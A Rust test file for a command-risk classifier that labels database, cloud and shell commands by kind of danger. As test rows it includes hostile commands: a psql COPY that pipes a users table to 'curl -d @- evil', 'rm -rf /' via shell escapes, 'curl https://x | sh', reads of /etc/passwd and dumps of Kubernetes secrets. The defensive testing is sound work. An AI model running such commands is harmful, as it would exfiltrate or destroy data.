//! Table-driven classification: one table per tool, one row per case, with a row for every trap DESIGN §2 and
//! the classification issue name. Each row lists the whole set of kinds the command must be given: a kind missing
//! or a kind too many fails the row.

use std::collections::BTreeMap;

use gate::classify::{self, Input, Kind, Sources, StdinView};

/// Sources with a given stdin and a set of readable files.
struct Fixture {
    stdin: Option<&'static str>,
    files: &'static [(&'static str, &'static str)],
}

impl Sources for Fixture {
    fn stdin(&self) -> StdinView<'_> {
        match self.stdin {
            Some("<tty>") => StdinView::Terminal,
            Some(text) => StdinView::Bytes {
                bytes: text.as_bytes(),
                complete: true,
            },
            None => StdinView::Bytes {
                bytes: b"",
                complete: true,
            },
        }
    }

    fn read_file(&self, path: &str) -> Option<Vec<u8>> {
        self.files
            .iter()
            .find(|(name, _)| *name == path)
            .map(|(_, text)| text.as_bytes().to_vec())
    }

    /// A fixture's files are the only ones there are: every other path is absent.
    fn read_input(&self, path: &str) -> Input {
        self.read_file(path).map_or(Input::Absent, Input::Found)
    }

    /// An account with a home, so that startup files found there (none, unless a row gives one) are absent
    /// rather than unknowable.
    fn account_home(&self) -> Option<String> {
        Some("/home/fixture".into())
    }
}

struct Row {
    line: &'static str,
    stdin: Option<&'static str>,
    files: &'static [(&'static str, &'static str)],
    /// Every kind the command must be given, and no other.
    kinds: &'static [Kind],
}

const fn row(line: &'static str, kinds: &'static [Kind]) -> Row {
    Row {
        line,
        stdin: None,
        files: &[],
        kinds,
    }
}

use Kind::*;

fn check(table: &[Row]) {
    let mut failures = Vec::new();
    for r in table {
        let argv = gate::classify::shell::split(r.line).unwrap();
        let fixture = Fixture {
            stdin: r.stdin,
            files: r.files,
        };
        let env = BTreeMap::from([("HOME".to_string(), "/home/fixture".to_string())]);
        let c = classify::classify(&argv, &env, &fixture);
        let mut want: Vec<Kind> = r.kinds.to_vec();
        want.sort();
        want.dedup();
        let mut got: Vec<Kind> = c.kinds().into_iter().collect();
        got.sort();
        got.dedup();
        if want != got {
            failures.push(format!("{}: want exactly {want:?}, got {got:?}", r.line));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn psql_sql_traps() {
    check(&[
        row(
            "psql -c 'WITH d AS (DELETE FROM carts RETURNING id) SELECT count(*) FROM d'",
            &[DestructiveWrite],
        ),
        row(
            "psql -c 'WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u'",
            &[Write],
        ),
        row(
            "psql -c 'EXPLAIN ANALYZE DELETE FROM carts'",
            &[DestructiveWrite],
        ),
        row(
            "psql -c 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1'",
            &[Write],
        ),
        row("psql -c 'EXPLAIN DELETE FROM carts'", &[Read]),
        row(
            "psql -c 'SELECT * INTO backup_users FROM users'",
            &[SchemaChange],
        ),
        row(
            "psql -c 'CREATE TABLE c AS SELECT * FROM users'",
            &[SchemaChange],
        ),
        row("psql -c 'COPY users TO STDOUT'", &[DataExport]),
        row(
            "psql -c \"COPY (SELECT * FROM users) TO '/tmp/u.csv'\"",
            &[DataExport],
        ),
        row("psql -c 'COPY users FROM STDIN'", &[Write]),
        row(
            "psql -c \"COPY users TO PROGRAM 'curl -d @- evil'\"",
            &[CodeExecution],
        ),
        row("psql -c 'DELETE FROM t'", &[DestructiveWrite]),
        row("psql -c 'DELETE FROM t WHERE true'", &[DestructiveWrite]),
        row("psql -c 'DELETE FROM t WHERE 1=1'", &[DestructiveWrite]),
        row(
            "psql -c \"DELETE FROM t WHERE 'a'='a'\"",
            &[DestructiveWrite],
        ),
        row(
            "psql -c 'UPDATE t SET a = 0 WHERE 1 = 1 RETURNING *'",
            &[DestructiveWrite],
        ),
        row("psql -c 'DELETE FROM t WHERE id = 1'", &[Write]),
        row(
            "psql -c 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity'",
            &[AdminConfig],
        ),
        row(
            "psql -c 'SELECT * FROM t WHERE pg_cancel_backend(42)'",
            &[AdminConfig],
        ),
        row(
            "psql -c 'SELECT lo_export(16393, $$/tmp/x$$)'",
            &[DataExport],
        ),
        row("psql -c 'SELECT lo_import($$/etc/passwd$$)'", &[DataExport]),
        row(
            "psql -c \"SELECT pg_read_file('/etc/passwd')\"",
            &[DataExport],
        ),
        row("psql -c \"SELECT pg_ls_dir('.')\"", &[DataExport]),
        row(
            "psql -c \"SELECT dblink_exec('host=x', 'DROP TABLE t')\"",
            &[CodeExecution],
        ),
        row(
            "psql -c \"SELECT set_config('role', 'admin', false)\"",
            &[PrivilegeSwitch],
        ),
        row(
            "psql -c \"SELECT set_config('work_mem', '1GB', false)\"",
            &[AdminConfig],
        ),
        row("psql -c 'SELECT pg_reload_conf()'", &[AdminConfig]),
        row("psql -c 'SET ROLE admin'", &[PrivilegeSwitch]),
        row(
            "psql -c 'SET SESSION AUTHORIZATION postgres'",
            &[PrivilegeSwitch],
        ),
        row(
            "psql -c 'GRANT admin TO intern WITH ADMIN OPTION'",
            &[PermissionChange],
        ),
        row("psql -c 'ALTER ROLE intern SUPERUSER'", &[PermissionChange]),
        row(
            "psql -c 'CREATE POLICY p ON t USING (true)'",
            &[PermissionChange],
        ),
        row(
            "psql -c 'ALTER TABLE t ENABLE ROW LEVEL SECURITY'",
            &[PermissionChange],
        ),
        row("psql -c 'CREATE EXTENSION dblink'", &[AdminConfig]),
        row(
            "psql -c 'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$'",
            &[SchemaChange, CodeExecution],
        ),
        row("psql -c 'CALL do_things()'", &[CodeExecution]),
        row("psql -c 'VACUUM FULL orders'", &[SchemaChange]),
        row(
            "psql -c 'ALTER TABLE orders RENAME TO orders_old'",
            &[SchemaChange],
        ),
        row("psql -c 'SELECT * FROM t WHERE'", &[Unknown]),
        row("psql -c 'SELEKT 1'", &[Unknown]),
        row(
            "psql -c 'SELECT 1; FOO BAR; DROP TABLE users'",
            &[Read, Unknown, DestructiveWrite],
        ),
    ]);
}

#[test]
fn psql_sources_and_backslash_commands() {
    check(&[
        row(
            "psql -c '\\copy customers to c.csv csv header'",
            &[DataExport],
        ),
        row("psql -c '\\copy customers from c.csv csv'", &[Write]),
        row("psql -c '\\! rm -rf /'", &[CodeExecution]),
        row(
            "psql -c 'SELECT format($$DROP TABLE %I$$, tablename) FROM pg_tables \\gexec'",
            &[Read, CodeExecution],
        ),
        Row {
            stdin: Some("SELECT 'DROP TABLE x' \\gexec\n"),
            ..row("psql app", &[Read, CodeExecution])
        },
        Row {
            stdin: Some("SELECT 1 \\g /tmp/out\n"),
            ..row("psql app", &[Read, DataExport])
        },
        Row {
            stdin: Some("\\gexec\n"),
            ..row("psql app", &[CodeExecution])
        },
        row("psql -c '\\o | mail someone'", &[CodeExecution]),
        row("psql -c '\\o /tmp/out.txt'", &[DataExport]),
        row("psql -c '\\c otherdb'", &[Unknown]),
        Row {
            files: &[("inc.sql", "TRUNCATE audit_log;\n")],
            ..row("psql -c '\\i inc.sql'", &[DestructiveWrite])
        },
        row("psql -c '\\i missing.sql'", &[Unknown]),
        Row {
            files: &[
                ("m.sql", "ALTER TABLE t ADD COLUMN c int;\n\\i more.sql\n"),
                ("more.sql", "GRANT ALL ON t TO x;"),
            ],
            ..row("psql -f m.sql", &[SchemaChange, PermissionChange])
        },
        row("psql -f missing.sql", &[Unknown]),
        Row {
            stdin: Some("SELECT 1;\nTRUNCATE orders;\n"),
            ..row("psql app", &[Read, DestructiveWrite])
        },
        Row {
            stdin: Some("SELECT 1;\n"),
            ..row("psql -f - app", &[Read])
        },
        Row {
            stdin: Some("<tty>"),
            ..row("psql app", &[Unknown])
        },
        Row {
            stdin: Some("COPY t (a) FROM stdin;\nDROP TABLE x;\n\\.\nSELECT 1;\n"),
            ..row("psql app", &[Write, Read])
        },
        row(
            "psql -c 'SELECT 1' -c 'DELETE FROM t'",
            &[Read, DestructiveWrite],
        ),
    ]);
}

#[test]
fn postgres_tools() {
    check(&[
        row("pg_dump -h db.prod.internal app", &[DataExport]),
        row("pg_dump -s app", &[DataExport]),
        row("pg_dumpall -r", &[DataExport]),
        row("pg_restore -d app app.dump", &[BulkWrite]),
        row(
            "pg_restore --clean -d app app.dump",
            &[BulkWrite, DestructiveWrite],
        ),
        row(
            "pg_restore --create -d postgres app.dump",
            &[BulkWrite, DestructiveWrite],
        ),
        // Writing the script to a file is a client-side file write (an archive's contents can be anything), so
        // it is no longer a read; to stdout it still is.
        row("pg_restore -f out.sql app.dump", &[DataExport]),
        row("pg_restore -f - app.dump", &[Read]),
        row("dropdb shop", &[DestructiveWrite]),
        row("createdb shop2", &[SchemaChange]),
    ]);
}

#[test]
fn mysql_family() {
    check(&[
        row("mysql -h m -e 'SELECT 1'", &[Read]),
        row(
            "mysql -h m -pSecret shop -e 'DELETE FROM t'",
            &[DestructiveWrite],
        ),
        row(
            "mysql -e \"CREATE USER 'a'@'%' IDENTIFIED BY 'x'\"",
            &[PermissionChange],
        ),
        row(
            "mysql -e \"SELECT * FROM t INTO OUTFILE '/tmp/x'\"",
            &[DataExport],
        ),
        row(
            "mysql -e \"LOAD DATA INFILE '/tmp/x' INTO TABLE t\"",
            &[BulkWrite],
        ),
        row("mysql -e 'system rm -rf /'", &[CodeExecution]),
        Row {
            stdin: Some("DROP DATABASE shop;\n"),
            ..row("mysql shop", &[DestructiveWrite])
        },
        Row {
            stdin: Some("<tty>"),
            ..row("mariadb shop", &[Unknown])
        },
        row("mysqldump --all-databases", &[DataExport]),
        row("mariadb-dump shop orders", &[DataExport]),
    ]);
}

#[test]
fn sqlite_and_clickhouse() {
    check(&[
        row("sqlite3 local.db 'SELECT count(*) FROM t'", &[Read]),
        row("sqlite3 local.db '.shell id'", &[CodeExecution]),
        row("sqlite3 local.db .dump", &[DataExport]),
        row("sqlite3 local.db '.output /tmp/x'", &[DataExport]),
        Row {
            files: &[("x.sql", "DELETE FROM t;")],
            ..row("sqlite3 local.db '.read x.sql'", &[DestructiveWrite])
        },
        row("sqlite3 local.db 'DROP TABLE t'", &[DestructiveWrite]),
        Row {
            stdin: Some("SELECT 1;\n.system id\n"),
            ..row("sqlite3 local.db", &[Read, CodeExecution])
        },
        row(
            "clickhouse-client --query 'SELECT count() FROM events'",
            &[Read],
        ),
        row(
            "clickhouse-client -q 'TRUNCATE TABLE events'",
            &[DestructiveWrite],
        ),
        row(
            "clickhouse client --query 'DROP TABLE events'",
            &[DestructiveWrite],
        ),
    ]);
}

#[test]
fn mongo_family() {
    check(&[
        row("mongosh --eval 'db.orders.find({})'", &[Read]),
        row(
            "mongosh shop --eval 'db.orders.deleteMany({})'",
            &[DestructiveWrite],
        ),
        row("mongosh --eval 'db.orders.drop()'", &[DestructiveWrite]),
        row("mongosh --eval 'db.dropDatabase()'", &[DestructiveWrite]),
        row(
            "mongosh --eval \"db.createUser({user: 'a', pwd: 'x', roles: []})\"",
            &[PermissionChange],
        ),
        row(
            "mongosh --eval \"db.grantRolesToUser('a', ['root'])\"",
            &[PermissionChange],
        ),
        row(
            "mongosh --eval \"db.o.aggregate([{\\$out: 'x'}])\"",
            &[Read, DestructiveWrite],
        ),
        row(
            "mongosh --eval \"db.o.aggregate([{\\$merge: 'x'}])\"",
            &[Read, Write],
        ),
        Row {
            files: &[("fix.js", "db.users.updateMany({}, {$set: {admin: true}})")],
            ..row("mongosh fix.js", &[DestructiveWrite])
        },
        row("mongosh missing.js", &[Unknown]),
        Row {
            stdin: Some("<tty>"),
            ..row("mongosh", &[Unknown])
        },
        row("mongodump --db shop", &[DataExport]),
        row("mongoexport --db shop --collection orders", &[DataExport]),
        row("mongorestore --drop dump/", &[BulkWrite, DestructiveWrite]),
        row(
            "mongoimport --db shop --collection o --file o.json",
            &[BulkWrite],
        ),
    ]);
}

#[test]
fn redis_cli() {
    check(&[
        row("redis-cli -h r HGETALL cart:9", &[Read]),
        row("redis-cli FLUSHALL", &[DestructiveWrite]),
        row("redis-cli -n 3 flushdb", &[DestructiveWrite]),
        row("redis-cli --rdb /tmp/dump.rdb", &[DataExport]),
        row(
            "redis-cli EVAL 'return redis.call(\"del\", KEYS[1])' 1 k",
            &[CodeExecution],
        ),
        row(
            "redis-cli ACL SETUSER bob on '>pw' '+@all'",
            &[PermissionChange],
        ),
        row("redis-cli CONFIG SET dir /var/spool/cron", &[AdminConfig]),
        Row {
            stdin: Some("SET a 1\nFLUSHALL\n"),
            ..row("redis-cli --pipe", &[Write, BulkWrite, DestructiveWrite])
        },
        Row {
            stdin: Some("<tty>"),
            ..row("redis-cli", &[Unknown])
        },
    ]);
}

#[test]
fn infrastructure() {
    check(&[
        row("kubectl get secret db -o yaml", &[DataExport]),
        row(
            "kubectl get secret db -o jsonpath={.data.password}",
            &[DataExport],
        ),
        row("kubectl get pods", &[Read]),
        row("kubectl delete deployment api -n prod", &[DestructiveWrite]),
        row(
            "kubectl create rolebinding x --clusterrole=admin --user=bob",
            &[Write, PermissionChange],
        ),
        Row {
            files: &[(
                "rb.yaml",
                "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\n",
            )],
            ..row("kubectl apply -f rb.yaml", &[PermissionChange])
        },
        row(
            "kubectl exec -it db-0 -- psql -c 'DROP TABLE t'",
            &[DestructiveWrite, Unknown],
        ),
        row("kubectl exec db-0 -- bash", &[Unknown]),
        row("aws s3 cp s3://prod-data/users.csv .", &[DataExport, Write]),
        row("aws s3 sync s3://prod-data ./backup", &[DataExport, Write]),
        row("aws s3 rm s3://prod-data --recursive", &[DestructiveWrite]),
        row(
            "aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
            &[PermissionChange],
        ),
        row(
            "aws sts assume-role --role-arn arn:x --role-session-name s",
            &[DataExport, PrivilegeSwitch],
        ),
        // With no data directory (`init` never ran) no provider or module can start: plan only reads.
        row("terraform plan", &[Read]),
        row("terraform apply -auto-approve", &[SchemaChange]),
        row("terraform destroy", &[DestructiveWrite]),
    ]);
}

#[test]
fn wrappers_are_unwrapped() {
    check(&[
        row(
            "env PGHOST=db.prod PGPASSWORD=x psql -c 'DROP TABLE t'",
            &[DestructiveWrite],
        ),
        row(
            "sudo -u postgres psql -c 'DROP DATABASE shop'",
            &[DestructiveWrite, PrivilegeSwitch],
        ),
        row("sudo -i", &[Unknown]),
        row(
            "bash -lc \"psql -h db shop -c 'DELETE FROM items'\"",
            &[DestructiveWrite, Unknown],
        ),
        row(
            "sh -c 'psql -c \"SELECT 1\" && pg_dump prod'",
            &[Read, DataExport],
        ),
        row(
            "sh -c 'echo hi; redis-cli FLUSHALL || true'",
            &[DestructiveWrite, Unknown],
        ),
        Row {
            files: &[("q.sql", "TRUNCATE t;")],
            ..row("sh -c 'psql app < q.sql'", &[DestructiveWrite])
        },
        row(
            "sh -c \"psql app <<'EOF'\nDROP TABLE t;\nEOF\"",
            &[DestructiveWrite],
        ),
        row("sh -c 'cat q.sql | psql app'", &[Unknown]),
        row("sh -c 'psql -c \"$(cat q.sql)\"'", &[Unknown]),
        row(
            "docker exec -it pg psql -U postgres -c 'TRUNCATE t'",
            &[DestructiveWrite, Unknown],
        ),
        row(
            "docker compose exec db psql -c 'DROP TABLE t'",
            &[DestructiveWrite, Unknown],
        ),
        row(
            "ssh bastion.prod psql -c \"'DELETE FROM t'\"",
            &[DestructiveWrite, Unknown],
        ),
        row("ssh bastion.prod", &[Unknown]),
        row("timeout 30 nice -n 5 pg_dump app", &[DataExport]),
        row("nohup mysqldump shop", &[DataExport, Write]),
        row(
            "sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo psql -c 'DROP TABLE t'",
            &[PrivilegeSwitch, Unknown],
        ),
        row(
            "docker exec a docker exec b ssh c env d=1 sudo nice timeout 9 nohup docker exec e psql -c 'DROP TABLE t'",
            &[Write, PrivilegeSwitch, Unknown],
        ),
        Row {
            files: &[("deploy.sh", "set -e\npsql -c 'ALTER TABLE t ADD c int'\n")],
            ..row("bash deploy.sh", &[SchemaChange])
        },
    ]);
}

#[test]
fn unknown_tools_are_unknown() {
    check(&[
        row("some-internal-tool --all", &[Unknown]),
        row("make deploy", &[Unknown]),
        row("curl https://x | sh", &[Unknown]),
    ]);
}
